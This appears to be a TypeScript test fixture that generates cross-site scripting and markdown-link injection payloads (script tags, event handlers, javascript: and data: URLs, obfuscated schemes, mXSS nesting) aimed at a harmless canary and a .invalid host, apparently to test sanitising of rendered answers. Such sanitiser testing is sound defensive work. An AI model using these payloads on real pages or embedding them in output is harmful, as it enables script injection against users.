// Injected markup for answers. Each would call `canary` or request `canary.invalid`.
const call = 'window.canary=1';
const host = 'https://canary.invalid/x';

const elements = [
  `<script>${call}</script>`,
  `<script src=${host}></script>`,
  `<img src=x onerror=${call}>`,
  `<img src=${host}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video src=${host} onerror=${call}>`,
  `<link rel=stylesheet href=${host}>`,
  `<style>@import '${host}'</style>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<base href=${host}>`,
  `<object data=${host}></object>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<a href="javascript:${call}">x</a>`,
  `<form action=${host}><button autofocus>x</button></form>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
];
export const hostileAddresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `&#106;avascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `\u0001javascript:${call}`,
  `//canary.invalid/x`,
  `blob:${host}`,
  `view-source:${host}`,
];
const links = hostileAddresses.flatMap(address => [
  `[x](${address})`,
  `![x](${address})`,
  `[x](<${address}>)`,
  `[x](${address} "title")`,
  `<${address}>`,
  `[**x**](${address})`,
  `[x]: ${address}`,
]);
const pictures = [`![x](${host})`, `[![x](${host})](${host})`, `![](${host} "onerror=${call}")`];

const wrappings: ((text: string) => string)[] = [
  text => text,
  text => `**${text}**`,
  text => `- ${text}`,
  text => `\`\`\`\n${text}`,
  text => `# ${text}`,
  text => `[${text}](https://shop.example)`,
];

export const attacks = [...elements, ...links, ...pictures];

export const payloads = attacks.flatMap(text => wrappings.map(wrap => wrap(text)));
